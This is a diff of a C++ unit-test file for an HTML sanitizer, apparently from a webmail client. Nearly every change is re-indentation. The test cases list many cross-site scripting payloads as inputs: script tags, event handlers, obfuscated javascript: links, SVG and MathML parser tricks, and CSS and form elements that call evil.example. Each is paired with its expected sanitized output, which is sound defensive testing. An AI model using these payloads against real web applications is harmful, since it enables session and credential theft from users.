@@ -47,69 +47,70 @@ void ExpectAll(const std::vector<SanitizeCase>& cases)
 TEST(HtmlSanitizerTest, DropsScriptsInEveryCaseAndSpacing)
 {
     ExpectAll({
-        {"plain", "a<script>alert(1)</script>b", "ab"},
-        {"upper case", "a<SCRIPT>alert(1)</SCRIPT>b", "ab"},
-        {"mixed case and blank", "a<ScRiPt >alert(1)</sCrIpT >b", "ab"},
-        {"line end in the tag", "a<script\n type=text/javascript\n>alert(1)</script>b", "ab"},
-        {"slash instead of blank", "a<script/src=//evil.example/x.js></script>b", "ab"},
-        {"blank after <", "a< script>alert(1)</script>b", "a&lt; script&gt;alert(1)b"},
-        {"split name", "<scr<script>x</script>ipt>alert(1)</script>", "xipt&gt;alert(1)"},
-        {"never closed", "a<script>alert(1)", "a"},
-        {"in the head", "<head><script>alert(1)</script></head><body>b</body>", "b"},
+            {"plain", "a<script>alert(1)</script>b", "ab"},
+            {"upper case", "a<SCRIPT>alert(1)</SCRIPT>b", "ab"},
+            {"mixed case and blank", "a<ScRiPt >alert(1)</sCrIpT >b", "ab"},
+            {"line end in the tag", "a<script\n type=text/javascript\n>alert(1)</script>b", "ab"},
+            {"slash instead of blank", "a<script/src=//evil.example/x.js></script>b", "ab"},
+            {"blank after <", "a< script>alert(1)</script>b", "a&lt; script&gt;alert(1)b"},
+            {"split name", "<scr<script>x</script>ipt>alert(1)</script>", "xipt&gt;alert(1)"},
+            {"never closed", "a<script>alert(1)", "a"},
+            {"in the head", "<head><script>alert(1)</script></head><body>b</body>", "b"},
     });
 }
 
 TEST(HtmlSanitizerTest, DropsEventAttributes)
 {
     ExpectAll({
-        {"image error", "<img src=x onerror=alert(1)>", "<img>"},
-        {"body load", "<body onload=alert(1)>hi</body>", "hi"},
-        {"quoted handler", "<div onmouseover='alert(1)' title=t>a</div>", "<div title=\"t\">a</div>"},
-        {"upper case", "<p ONCLICK=\"alert(1)\">t</p>", "<p>t</p>"},
-        {"slash separator", "<p/onclick=alert(1)>t</p>", "<p>t</p>"},
-        {"link", "<a href=\"http://a.example/\" onclick=\"x()\">l</a>",
-         "<a href=\"http://a.example/\" target=\"_blank\" rel=\"noopener noreferrer\">l</a>"},
-        {"id, name and class", "<span id=i name=n class=c>s</span>", "<span>s</span>"},
+            {"image error", "<img src=x onerror=alert(1)>", "<img>"},
+            {"body load", "<body onload=alert(1)>hi</body>", "hi"},
+            {"quoted handler", "<div onmouseover='alert(1)' title=t>a</div>", "<div title=\"t\">a</div>"},
+            {"upper case", "<p ONCLICK=\"alert(1)\">t</p>", "<p>t</p>"},
+            {"slash separator", "<p/onclick=alert(1)>t</p>", "<p>t</p>"},
+            {"link", "<a href=\"http://a.example/\" onclick=\"x()\">l</a>",
+             "<a href=\"http://a.example/\" target=\"_blank\" rel=\"noopener noreferrer\">l</a>"},
+            {"id, name and class", "<span id=i name=n class=c>s</span>", "<span>s</span>"},
     });
 }
 
 TEST(HtmlSanitizerTest, DropsSvgAndMathMl)
 {
     ExpectAll({
-        {"svg script", "a<svg><script>alert(1)</script></svg>b", "ab"},
-        {"svg load", "a<svg onload=alert(1)><circle r=1 /></svg>b", "ab"},
-        {"svg foreign object", "<svg><foreignObject><img src=x onerror=alert(1)>t</foreignObject></svg>u", "u"},
-        {"svg animate", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
-         ""},
-        {"math link", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>y", "y"},
-        {"math style confusion", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", ""},
+            {"svg script", "a<svg><script>alert(1)</script></svg>b", "ab"},
+            {"svg load", "a<svg onload=alert(1)><circle r=1 /></svg>b", "ab"},
+            {"svg foreign object", "<svg><foreignObject><img src=x onerror=alert(1)>t</foreignObject></svg>u", "u"},
+            {"svg animate", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
+             ""},
+            {"math link", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>y", "y"},
+            {"math style confusion", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", ""},
     });
 }
 
 TEST(HtmlSanitizerTest, SurvivesParserStateTricks)
 {
     ExpectAll({
-        {"comment", "a<!--<script>alert(1)</script>-->b", "ab"},
-        {"bad comment end", "a<!-- --!><script>alert(1)</script>b", "ab"},
-        // Outside SVG and MathML, "<![CDATA[" opens a bogus comment that the first '>' ends.
-        {"CDATA in HTML", "a<![CDATA[<script>alert(1)</script>]]>b", "aalert(1)]]&gt;b"},
-        // The parser reads <noscript> as a browser without scripts does; only an escaped title comes out, and a
-        // browser with scripts parses that the same way.
-        {"noscript attribute in the head", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">t",
-         "<p title=\"&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;\">t</p>"},
-        {"noscript in the body", "<p>a</p><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>t",
-         "<p>a</p>"}, // the </noscript> inside <p> is ignored, so t is in the <noscript> as well
-        {"style content", "<style><img src=x onerror=alert(1)></style>t", "t"},
-        {"textarea content", "<textarea><script>alert(1)</script></textarea>t", "t"},
-        {"title content", "<title><img src=x onerror=alert(1)></title>t", "t"},
-        {"xmp content", "<xmp><img src=x onerror=alert(1)></xmp>t", "t"},
-        {"template", "<template><img src=x onerror=alert(1)></template>t", "t"},
-        {"iframe srcdoc", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>t", "t"},
-        {"quote in text", "<p>\"'</p>", "<p>\"'</p>"},
-        {"entities in text", "a &lt;script&gt; &amp; &nbsp;&copy;", "a &lt;script&gt; &amp; &#160;&#169;"},
-        {"lone less-than", "1 < 2 & 3 > 2", "1 &lt; 2 &amp; 3 &gt; 2"},
-        {"quote in attribute", "<p title='a\"><script>alert(1)</script>'>t</p>",
-         "<p title=\"a&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">t</p>"},
+            {"comment", "a<!--<script>alert(1)</script>-->b", "ab"},
+            {"bad comment end", "a<!-- --!><script>alert(1)</script>b", "ab"},
+            // Outside SVG and MathML, "<![CDATA[" opens a bogus comment that the first '>' ends.
+            {"CDATA in HTML", "a<![CDATA[<script>alert(1)</script>]]>b", "aalert(1)]]&gt;b"},
+            // The parser reads <noscript> as a browser without scripts does; only an escaped title comes out, and a
+            // browser with scripts parses that the same way.
+            {"noscript attribute in the head", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">t",
+             "<p title=\"&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;\">t</p>"},
+            {"noscript in the body",
+             "<p>a</p><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>t",
+             "<p>a</p>"}, // the </noscript> inside <p> is ignored, so t is in the <noscript> as well
+            {"style content", "<style><img src=x onerror=alert(1)></style>t", "t"},
+            {"textarea content", "<textarea><script>alert(1)</script></textarea>t", "t"},
+            {"title content", "<title><img src=x onerror=alert(1)></title>t", "t"},
+            {"xmp content", "<xmp><img src=x onerror=alert(1)></xmp>t", "t"},
+            {"template", "<template><img src=x onerror=alert(1)></template>t", "t"},
+            {"iframe srcdoc", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>t", "t"},
+            {"quote in text", "<p>\"'</p>", "<p>\"'</p>"},
+            {"entities in text", "a &lt;script&gt; &amp; &nbsp;&copy;", "a &lt;script&gt; &amp; &#160;&#169;"},
+            {"lone less-than", "1 < 2 & 3 > 2", "1 &lt; 2 &amp; 3 &gt; 2"},
+            {"quote in attribute", "<p title='a\"><script>alert(1)</script>'>t</p>",
+             "<p title=\"a&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">t</p>"},
     });
 }
 
@@ -117,57 +118,57 @@ TEST(HtmlSanitizerTest, KeepsOnlyLinksOfSafeSchemes)
 {
     const std::string ok = " target=\"_blank\" rel=\"noopener noreferrer\"";
     ExpectAll({
-        {"javascript", "<a href=\"javascript:alert(1)\">l</a>", "<a>l</a>"},
-        {"mixed case", "<a href=\"JaVaScRiPt:alert(1)\">l</a>", "<a>l</a>"},
-        {"decimal entity", "<a href=\"&#106;avascript:alert(1)\">l</a>", "<a>l</a>"},
-        {"hex entity without ';'", "<a href=\"&#x6A&#x61vascript:alert(1)\">l</a>", "<a>l</a>"},
-        {"tab entity inside", "<a href=\"java&#x09;script:alert(1)\">l</a>", "<a>l</a>"},
-        {"line end inside", "<a href=\"java\nscript:alert(1)\">l</a>", "<a>l</a>"},
-        {"leading blanks", "<a href=\" \t javascript:alert(1)\">l</a>", "<a>l</a>"},
-        {"colon entity", "<a href=\"javascript&colon;alert(1)\">l</a>", "<a>l</a>"},
-        {"vbscript", "<a href=\"vbscript:msgbox(1)\">l</a>", "<a>l</a>"},
-        {"data html", "<a href=\"data:text/html,<script>alert(1)</script>\">l</a>", "<a>l</a>"},
-        {"relative", "<a href=\"/qm?Session=ABCDEFG&Action=Delete\">l</a>", "<a>l</a>"},
-        {"http with query", "<a href=\"http://a.example/?a=1&amp;b=2\" target=_self rel=opener>l</a>",
-         "<a href=\"http://a.example/?a=1&amp;b=2\"" + ok + ">l</a>"},
-        {"mailto", "<a href=\" mailto:x@a.example \">m</a>", "<a href=\"mailto:x@a.example\"" + ok + ">m</a>"},
-        {"frame target", "<base href=\"http://evil.example/\" target=top><a href=\"https://a.example\">l</a>",
-         "<a href=\"https://a.example\"" + ok + ">l</a>"},
+            {"javascript", "<a href=\"javascript:alert(1)\">l</a>", "<a>l</a>"},
+            {"mixed case", "<a href=\"JaVaScRiPt:alert(1)\">l</a>", "<a>l</a>"},
+            {"decimal entity", "<a href=\"&#106;avascript:alert(1)\">l</a>", "<a>l</a>"},
+            {"hex entity without ';'", "<a href=\"&#x6A&#x61vascript:alert(1)\">l</a>", "<a>l</a>"},
+            {"tab entity inside", "<a href=\"java&#x09;script:alert(1)\">l</a>", "<a>l</a>"},
+            {"line end inside", "<a href=\"java\nscript:alert(1)\">l</a>", "<a>l</a>"},
+            {"leading blanks", "<a href=\" \t javascript:alert(1)\">l</a>", "<a>l</a>"},
+            {"colon entity", "<a href=\"javascript&colon;alert(1)\">l</a>", "<a>l</a>"},
+            {"vbscript", "<a href=\"vbscript:msgbox(1)\">l</a>", "<a>l</a>"},
+            {"data html", "<a href=\"data:text/html,<script>alert(1)</script>\">l</a>", "<a>l</a>"},
+            {"relative", "<a href=\"/qm?Session=ABCDEFG&Action=Delete\">l</a>", "<a>l</a>"},
+            {"http with query", "<a href=\"http://a.example/?a=1&amp;b=2\" target=_self rel=opener>l</a>",
+             "<a href=\"http://a.example/?a=1&amp;b=2\"" + ok + ">l</a>"},
+            {"mailto", "<a href=\" mailto:x@a.example \">m</a>", "<a href=\"mailto:x@a.example\"" + ok + ">m</a>"},
+            {"frame target", "<base href=\"http://evil.example/\" target=top><a href=\"https://a.example\">l</a>",
+             "<a href=\"https://a.example\"" + ok + ">l</a>"},
     });
 }
 
 TEST(HtmlSanitizerTest, KeepsOnlyCssThatLoadsAndRunsNothing)
 {
     ExpectAll({
-        {"expression", "<p style=\"width: expression(alert(1))\">t</p>", "<p>t</p>"},
-        {"remote url", "<p style=\"background: url(http://evil.example/x.png)\">t</p>", "<p>t</p>"},
-        {"escaped url", "<p style=\"background: u\\72l(http://evil.example/x.png)\">t</p>", "<p>t</p>"},
-        {"behaviour", "<p style=\"behavior: url(x.htc); -moz-binding: url(x.xml#x)\">t</p>", "<p>t</p>"},
-        {"import", "<p style=\"@import 'http://evil.example/x.css'\">t</p>", "<p>t</p>"},
-        {"fixed overlay",
-         "<div style=\"position: fixed; top: 0; left: 0; width: 100%; height: 100%; z-index: 9999\">t</div>",
-         "<div style=\"width: 100%; height: 100%\">t</div>"},
-        {"negative margin", "<div style=\"margin-top: -500px; color: red\">t</div>",
-         "<div style=\"color: red\">t</div>"},
-        {"comment", "<p style=\"color: red/**/; font-weight: bold\">t</p>", "<p style=\"font-weight: bold\">t</p>"},
-        {"colour function", "<p style=\"COLOR: rgb(1, 2, 3) !important\">t</p>",
-         "<p style=\"color: rgb(1, 2, 3) !important\">t</p>"},
-        {"font names", "<p style=\"font-family: 'Times New Roman', serif\">t</p>",
-         "<p style=\"font-family: 'Times New Roman', serif\">t</p>"},
-        {"style element", "<style>body { background: url(http://evil.example/) }</style>t", "t"},
-        {"link element", "<link rel=stylesheet href=http://evil.example/x.css>t", "t"},
+            {"expression", "<p style=\"width: expression(alert(1))\">t</p>", "<p>t</p>"},
+            {"remote url", "<p style=\"background: url(http://evil.example/x.png)\">t</p>", "<p>t</p>"},
+            {"escaped url", "<p style=\"background: u\\72l(http://evil.example/x.png)\">t</p>", "<p>t</p>"},
+            {"behaviour", "<p style=\"behavior: url(x.htc); -moz-binding: url(x.xml#x)\">t</p>", "<p>t</p>"},
+            {"import", "<p style=\"@import 'http://evil.example/x.css'\">t</p>", "<p>t</p>"},
+            {"fixed overlay",
+             "<div style=\"position: fixed; top: 0; left: 0; width: 100%; height: 100%; z-index: 9999\">t</div>",
+             "<div style=\"width: 100%; height: 100%\">t</div>"},
+            {"negative margin", "<div style=\"margin-top: -500px; color: red\">t</div>",
+             "<div style=\"color: red\">t</div>"},
+            {"comment", "<p style=\"color: red/**/; font-weight: bold\">t</p>", "<p style=\"font-weight: bold\">t</p>"},
+            {"colour function", "<p style=\"COLOR: rgb(1, 2, 3) !important\">t</p>",
+             "<p style=\"color: rgb(1, 2, 3) !important\">t</p>"},
+            {"font names", "<p style=\"font-family: 'Times New Roman', serif\">t</p>",
+             "<p style=\"font-family: 'Times New Roman', serif\">t</p>"},
+            {"style element", "<style>body { background: url(http://evil.example/) }</style>t", "t"},
+            {"link element", "<link rel=stylesheet href=http://evil.example/x.css>t", "t"},
     });
 }
 
 TEST(HtmlSanitizerTest, DropsFormsFramesObjectsAndRefreshes)
 {
     ExpectAll({
-        {"form", "<form action=http://evil.example/><input name=p type=password><button>Go</button></form>t", "t"},
-        {"frames", "<frameset><frame src=http://evil.example/></frameset>", ""},
-        {"iframe", "a<iframe src=\"http://evil.example/\">x</iframe>b", "ab"},
-        {"object and embed", "a<object data=x.swf><param name=a value=b></object><embed src=x.swf>b", "ab"},
-        {"meta refresh", "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">t", "t"},
-        {"media", "<video src=x.mp4 poster=http://t.example/p.gif></video><audio src=x></audio>t", "t"},
+            {"form", "<form action=http://evil.example/><input name=p type=password><button>Go</button></form>t", "t"},
+            {"frames", "<frameset><frame src=http://evil.example/></frameset>", ""},
+            {"iframe", "a<iframe src=\"http://evil.example/\">x</iframe>b", "ab"},
+            {"object and embed", "a<object data=x.swf><param name=a value=b></object><embed src=x.swf>b", "ab"},
+            {"meta refresh", "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">t", "t"},
+            {"media", "<video src=x.mp4 poster=http://t.example/p.gif></video><audio src=x></audio>t", "t"},
     });
 }
 
@@ -193,14 +194,14 @@ TEST(HtmlSanitizerTest, BlocksRemoteImagesUnlessAsked)
 TEST(HtmlSanitizerTest, RewritesContentIdImagesAndKeepsInlineDataImages)
 {
     ExpectAll({
-        {"cid", "<img src=\"cid:p1@x\">",
-         "<img src=\"/qm?Session=ABCDEFG&amp;View=Attachment&amp;CID=p1@x\">"},
-        {"cid with specials", "<IMG SRC=\"CID:a&b c\">",
-         "<img src=\"/qm?Session=ABCDEFG&amp;View=Attachment&amp;CID=a%26b%20c\">"},
-        {"png data", "<img src=\"data:image/png;base64,iVBORw0K\">", "<img src=\"data:image/png;base64,iVBORw0K\">"},
-        {"svg data", "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">", "<img>"},
-        {"data with script", "<img src=\"data:image/png;base64,<script>\">", "<img>"},
-        {"javascript image", "<img src=\"javascript:alert(1)\">", "<img>"},
+            {"cid", "<img src=\"cid:p1@x\">", "<img src=\"/qm?Session=ABCDEFG&amp;View=Attachment&amp;CID=p1@x\">"},
+            {"cid with specials", "<IMG SRC=\"CID:a&b c\">",
+             "<img src=\"/qm?Session=ABCDEFG&amp;View=Attachment&amp;CID=a%26b%20c\">"},
+            {"png data", "<img src=\"data:image/png;base64,iVBORw0K\">",
+             "<img src=\"data:image/png;base64,iVBORw0K\">"},
+            {"svg data", "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">", "<img>"},
+            {"data with script", "<img src=\"data:image/png;base64,<script>\">", "<img>"},
+            {"javascript image", "<img src=\"javascript:alert(1)\">", "<img>"},
     });
 
     // Without a session the attachment cannot be linked: the source goes.
@@ -213,20 +214,20 @@ TEST(HtmlSanitizerTest, RewritesContentIdImagesAndKeepsInlineDataImages)
 TEST(HtmlSanitizerTest, KeepsTheInsideOfTheBodyOnly)
 {
     ExpectAll({
-        {"whole document",
-         "<html><head><title>T</title><style>p{}</style></head><body bgcolor=red><p>in</p></body></html>",
-         "<p>in</p>"},
-        {"after the body", "<body><p>in</p></body>footer<b>x</b>", "<p>in</p>"},
-        {"no body tag", "<p>a<br>b</p>", "<p>a<br>b</p>"},
-        {"Office markup", "<o:p>x</o:p><font face=Arial color=#ff0000 size=2>y</font>",
-         "x<font face=\"Arial\" color=\"#ff0000\" size=\"2\">y</font>"},
-        {"table attributes",
-         "<table border=0 cellpadding=\"4\" width=\"100%\" onclick=x><tr><td colspan=2 nowrap valign=top>c</td>"
-         "</tr></table>",
-         "<table border=\"0\" cellpadding=\"4\" width=\"100%\"><tbody><tr><td colspan=\"2\" nowrap valign=\"top\">c"
-         "</td></tr></tbody></table>"},
-        {"bad lengths", "<td width=\"100;x\" height=\"1e9\">c</td>", "c"},
-        {"pre keeps its first line end", "<pre>\n\nx</pre>", "<pre>\n\nx</pre>"},
+            {"whole document",
+             "<html><head><title>T</title><style>p{}</style></head><body bgcolor=red><p>in</p></body></html>",
+             "<p>in</p>"},
+            {"after the body", "<body><p>in</p></body>footer<b>x</b>", "<p>in</p>"},
+            {"no body tag", "<p>a<br>b</p>", "<p>a<br>b</p>"},
+            {"Office markup", "<o:p>x</o:p><font face=Arial color=#ff0000 size=2>y</font>",
+             "x<font face=\"Arial\" color=\"#ff0000\" size=\"2\">y</font>"},
+            {"table attributes",
+             "<table border=0 cellpadding=\"4\" width=\"100%\" onclick=x><tr><td colspan=2 nowrap valign=top>c</td>"
+             "</tr></table>",
+             "<table border=\"0\" cellpadding=\"4\" width=\"100%\"><tbody><tr><td colspan=\"2\" nowrap valign=\"top\">c"
+             "</td></tr></tbody></table>"},
+            {"bad lengths", "<td width=\"100;x\" height=\"1e9\">c</td>", "c"},
+            {"pre keeps its first line end", "<pre>\n\nx</pre>", "<pre>\n\nx</pre>"},
     });
 }
 
@@ -234,8 +235,7 @@ TEST(HtmlSanitizerTest, PassesBytesOfEveryCharacterSetThrough)
 {
     // Latin-1, Shift-JIS (with a trail byte that is '\' in ASCII) and UTF-8 bytes, in text and attributes.
     const std::string bytes = "caf\xE9 \x95\x5C \xE3\x81\x82";
-    EXPECT_EQ(Sanitize("<p title=\"" + bytes + "\">" + bytes + "</p>"),
-              "<p title=\"" + bytes + "\">" + bytes + "</p>");
+    EXPECT_EQ(Sanitize("<p title=\"" + bytes + "\">" + bytes + "</p>"), "<p title=\"" + bytes + "\">" + bytes + "</p>");
     // A NUL is dropped; a reference to a character beyond Latin-1 stays a reference.
     EXPECT_EQ(Sanitize(std::string("a\0b&#x263A;&rarr;", 17)), "ab&#9786;&#8594;");
 }
@@ -260,8 +260,12 @@ TEST(HtmlSanitizerTest, StaysFastOnDeepNestingAndManyAttributes)
         reopened += "<b title=" + std::to_string(i) + ">";
     }
     reopened += "</div>" + repeat("<div>x</div>", 80000);
-    const std::string inputs[] = {repeat("<div>", 100000), repeat("<ul><li>", 60000), repeat("<i><b><u>x</p>", 40000),
-                                  repeat("<dl><dd>", 60000), manyAttributes, reopened};
+    const std::string inputs[] = {repeat("<div>", 100000),
+                                  repeat("<ul><li>", 60000),
+                                  repeat("<i><b><u>x</p>", 40000),
+                                  repeat("<dl><dd>", 60000),
+                                  manyAttributes,
+                                  reopened};
     for (const std::string& input : inputs) {
         const auto start = std::chrono::steady_clock::now();
         HtmlSanitizeReport report;
@@ -287,19 +291,20 @@ TEST(HtmlSanitizerTest, StyleFilterKeepsAllowedDeclarationsOnly)
         const char* Css;
         const char* Want;
     };
+
     const Case cases[] = {
-        {"color:red", "color: red"},
-        {"  Color : Red ; ; font-size:12px;", "color: Red; font-size: 12px"},
-        {"position:absolute", ""},
-        {"color: red; content: 'x'", "color: red"},
-        {"font-family: \"a;b\", serif; color: blue", "color: blue"}, // no ';' in a value, quoted or not
-        {"color: 'red'", ""},
-        {"background: red url(x)", ""},
-        {"background-image: linear-gradient(red, blue)", ""},
-        {"border-image: url(x) 30", ""},
-        {"color: rgb(1,2,3", ""},
-        {"width: calc(100% - 1px)", ""},
-        {"font-family: \"unclosed", ""},
+            {"color:red", "color: red"},
+            {"  Color : Red ; ; font-size:12px;", "color: Red; font-size: 12px"},
+            {"position:absolute", ""},
+            {"color: red; content: 'x'", "color: red"},
+            {"font-family: \"a;b\", serif; color: blue", "color: blue"}, // no ';' in a value, quoted or not
+            {"color: 'red'", ""},
+            {"background: red url(x)", ""},
+            {"background-image: linear-gradient(red, blue)", ""},
+            {"border-image: url(x) 30", ""},
+            {"color: rgb(1,2,3", ""},
+            {"width: calc(100% - 1px)", ""},
+            {"font-family: \"unclosed", ""},
     };
     for (const Case& c : cases) {
         SCOPED_TRACE(c.Css);
